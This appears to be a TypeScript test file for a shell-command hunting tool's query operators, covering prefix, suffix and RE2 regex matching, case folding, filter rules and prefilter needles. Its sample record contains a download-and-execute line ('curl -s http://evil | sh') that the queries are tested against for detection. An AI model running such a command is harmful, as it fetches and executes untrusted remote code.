// The text operators SPEC section 7 adds for hunting: ^= (starts with), $= (ends with), /= (RE2
// regular expression), their ! forms, and case-insensitive values ("..."i): semantics on present
// and absent keys and on argv, typing errors, RE2 errors with a caret, local timestamps, precd's
// filter rules, and what they let the prefilter demand.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { compileQuery, parseQuery, printQuery, QueryError, operatorSpec, OPERATORS } from '../../src/query/index.js';
import { necessaryNeedles, necessaryTexts } from '../../src/query/needles.js';
import { compileFilter } from '../../src/daemon/filter.js';
import { parseConfig } from '../../src/daemon/config.js';
import type { FieldBag } from '../../src/schema/index.js';

const row: FieldBag = {
  timestamp: '2026-12-01T10:00:05.500000000+00:00',
  user: 'root', uid: 0, exe: '/usr/bin/bash', cwd: '/tmp/x',
  argv: ['bash', '-c', 'curl -s http://evil | sh'], argc: 3,
  source: 'user', record_type: 'command',
};

const on = (query: string, r: FieldBag = row): boolean => compileQuery(query).predicate(r);

function check(cases: Array<[string, boolean]>, r: FieldBag = row): void {
  for (const [q, expected] of cases) assert.equal(on(q, r), expected, q);
}

function queryError(query: string): QueryError {
  try {
    compileQuery(query);
  } catch (e) {
    if (e instanceof QueryError) return e;
    throw e;
  }
  assert.fail(`${query} should be a QueryError`);
}

describe('starts with, ends with', () => {
  it('match prefixes and suffixes of text fields, ! forms the opposite', () => {
    check([
      ['exe^=/usr/bin/', true], ['exe^=/bin/', false], ['exe!^=/bin/', true], ['exe!^=/usr/', false],
      ['exe$=/bash', true], ['exe$=/sh', false], ['exe!$=/sh', true], ['exe!$=bash', false],
      ['exe^=""', true], ['exe$=""', true], ['exe^=/usr/bin/bash', true], ['exe^=/usr/bin/bash2', false],
    ]);
  });
  it('match argv and command as the space-joined text', () => {
    check([
      ['command^="bash -c curl"', true], ['command^="bash -c sh"', false], ['argv^="bash -c"', true],
      ['command$="| sh"', true], ['argv$="| sh"', true], ['argv$="| bash"', false], ['command!$="| sh"', false],
    ]);
    // A merged row may carry command as text only.
    check([['command^="ls -l"', true], ['command$="-la"', true], ['command!^=ls', false]], { command: 'ls -la', record_type: 'command' });
  });
});

describe('regular expressions (RE2)', () => {
  it('match anywhere in the text unless anchored, ! form the opposite', () => {
    check([
      ['exe/=bash', true], ['exe/="^/usr/(s)?bin/ba.h$"', true], ['exe/="^bash"', false], ['exe!/="^bash"', true],
      ['exe!/=bash', false], ['command/="curl .*\\\\| *sh"', true], ['argv/="^bash -c "', true], ['user/="^r[o]+t$"', true],
    ]);
  });
  it('a pattern RE2 refuses is a QueryError with a caret at the value', () => {
    for (const [q, column] of [['exe/=(a', 6], ['user=x && exe!/="a(?=b)"', 17], ['exe/="a\\\\"', 6]] as Array<[string, number]>) {
      const e = queryError(q);
      assert.equal(e.column, column, q);
      assert.match(e.message, /is not an RE2 regular expression/, q);
      const [, shown, caret] = e.format().split('\n');
      assert.equal(shown, `  ${q}`);
      assert.equal(caret, `  ${' '.repeat(column - 1)}^`);
    }
  });
  it('stays linear on a pattern that makes backtracking engines explode', () => {
    // (a+)+$ on "aaaa...b" takes exponential time in a backtracking engine; RE2 answers at once.
    assert.equal(on('command/="(a+)+$"', { argv: ['a'.repeat(5000) + 'b'] }), false);
  });
});

describe('absent keys', () => {
  it('positive forms are false, ! forms true where the record lacks the key', () => {
    check([
      ['tty^=/dev', false], ['tty$=3', false], ['tty/=.', false], ['tty="x"i', false], ['tty~="X"i', false],
      ['tty!^=/dev', true], ['tty!$=3', true], ['tty!/=.', true], ['tty!="x"i', true], ['tty!~="X"i', true],
    ]);
  });
  it('the table says so for every operator', () => {
    for (const op of OPERATORS) assert.equal(operatorSpec(op).whenAbsent, op === '!=' || op.startsWith('!'), op);
  });
});

describe('case-insensitive values', () => {
  it('"..."i folds case for every text operator', () => {
    check([
      ['command~="CURL"i', true], ['command~="CURL"', false], ['exe$="/BASH"i', true], ['exe$="/BASH"', false],
      ['user="ROOT"i', true], ['user="ROOT"', false], ['user!="ROOT"i', false], ['exe^="/USR"i', true],
      ['exe!^="/USR"i', false], ['exe/="BIN/BA"i', true], ['exe/="BIN/BA"', false], ['argv~="-C CURL"i', true],
      ['exe!$="/BASH"i', false], ['cwd!~="/TMP"i', false], ['source="USER"i', true],
    ]);
  });
  it('is kept in the AST and printed so that it reparses to the same AST', () => {
    const ast = parseQuery('command~="CURL"i && user=root');
    assert.deepEqual(ast, {
      kind: 'and',
      operands: [{ kind: 'clause', key: 'command', op: '~=', value: 'CURL', caseless: true }, { kind: 'clause', key: 'user', op: '=', value: 'root' }],
    });
    assert.equal(printQuery(ast), 'command~="CURL"i && user=root');
    assert.deepEqual(parseQuery(printQuery(ast)), ast);
    // A bare value ending in i is just a value.
    assert.deepEqual(parseQuery('user=rooti'), { kind: 'clause', key: 'user', op: '=', value: 'rooti' });
  });
  it('is refused on fields that are not text', () => {
    const e = queryError('uid="0"i');
    assert.equal(e.column, 5);
    assert.match(e.message, /applies to text fields only/);
  });
});

describe('typing', () => {
  it('numeric, timestamp, duration and boolean keys reject the text operators', () => {
    for (const [q, type] of [['uid^=1', 'number'], ['pid/=1', 'number'], ['timestamp$=Z', 'timestamp'], ['duration!^=0000', 'duration'], ['exec_replaced/=t', 'boolean']]) {
      const e = queryError(q!);
      assert.match(e.message, new RegExp(`operator ".+" does not apply to ${type} field`), q);
      assert.equal(e.column, q!.search(/[!^$/]/) + 1, q);
    }
  });
  it('every operator lexes after any key, and a foreign key with ^ $ / is still one unknown key', () => {
    for (const op of OPERATORS) {
      const key = operatorSpec(op).types.includes('string') ? 'user' : 'uid';
      assert.equal((parseQuery(`${key}${op}1`) as { op: string }).op, op);
    }
    assert.match(queryError('us/er=x').message, /unknown field "us\/er"/);
  });
});

describe('timestamps written as local dates and times (SPEC 7)', () => {
  it('accepts a date, date+minute and date+second in the local time zone', () => {
    const local = (y: number, mo: number, d: number, h = 0, mi = 0, s = 0): FieldBag => ({
      timestamp: new Date(y, mo - 1, d, h, mi, s).toISOString().replace('Z', '000000+00:00'),
    });
    check([
      ['timestamp>=2026-12-01', true], ['timestamp<2026-12-01', false],
      ['timestamp>="2026-12-01 10:00"', true], ['timestamp>=2026-12-01T10:00:05', true], ['timestamp>2026-12-01T10:00:05', false],
    ], local(2026, 12, 1, 10, 0, 5));
    check([['timestamp<2026-12-01', true], ['timestamp=2026-11-30T23:59:59', true]], local(2026, 11, 30, 23, 59, 59));
  });
});

describe('precd filter rules', () => {
  const start = (over: Record<string, unknown> = {}): FieldBag => ({
    timestamp: '2026-11-22T15:04:05.123456789+00:00', event_id: '20261122150405-1', uid: 1000, user: 'alice',
    exe: '/usr/bin/id', argv: ['id', '-u'], argc: 2, source: 'user', record_type: 'start', ...over,
  });
  const filterOf = (rule: string) => compileFilter(parseConfig(`filter = [${JSON.stringify(rule)}]\nfilter_default = "allow"`, 'test.conf'));
  it('drop rules with each new operator decide on the records they match', () => {
    const cases: Array<[string, FieldBag, boolean]> = [
      ['-exe^=/usr/bin/', start(), false], ['-exe^=/opt/', start(), true],
      ['-exe!^=/opt/', start(), false], ['-exe!^=/usr/', start(), true],
      ['-exe$=/id', start(), false], ['-exe$=/ls', start(), true],
      ['-exe!$=/ls', start(), false], ['-exe!$=/id', start(), true],
      ['-command/="^id -[a-z]$"', start(), false], ['-command/="^id -[0-9]$"', start(), true],
      ['-command!/="^ls"', start(), false], ['-command!/="^id"', start(), true],
      ['-user="ALICE"i', start(), false], ['-command~="ID -U"i', start(), false], ['-user="ALICE"', start(), true],
    ];
    for (const [rule, rec, kept] of cases) assert.equal(filterOf(rule)(rec), kept, rule);
  });
  it('a bad regular expression in a rule is refused when the config is read', () => {
    assert.throws(() => filterOf('-exe/=(unclosed'), /RE2/);
  });
});

describe('prefilter needles', () => {
  const texts = (q: string) => necessaryTexts([parseQuery(q)]);
  it('^= and $= demand their value somewhere in the line; on argv every space-free piece', () => {
    assert.deepEqual(texts('exe^=/usr/bin/'), undefined); // '/' may be written \/ by other encoders
    assert.deepEqual(texts('user^=ngi'), ['ngi']);
    assert.deepEqual(texts('user$=inx'), ['inx']);
    assert.deepEqual(necessaryNeedles(parseQuery('user^=ngi')), [{ text: 'ngi' }]);
    assert.deepEqual(texts('command^="curl -s"'), ['curl', '-s']);
    assert.deepEqual(texts('argv$="| sh"'), ['sh']);
  });
  it('caseless values and ! forms demand nothing; a regex demands its literal runs (issue 19)', () => {
    assert.deepEqual(texts('user/=nginx'), ['nginx']);
    assert.deepEqual(texts('command/=curl'), ['curl']);
    for (const q of ['user/="ngi|x"', 'user/="NGINX"i', 'user="NGINX"i', 'command~="CURL"i', 'user^="NG"i', 'user!^=ngi', 'user!$=x', 'user!/=x']) {
      assert.equal(texts(q), undefined, q);
    }
    assert.deepEqual(texts('user="NGINX"i && user~=ngi'), ['ngi']);
  });
});
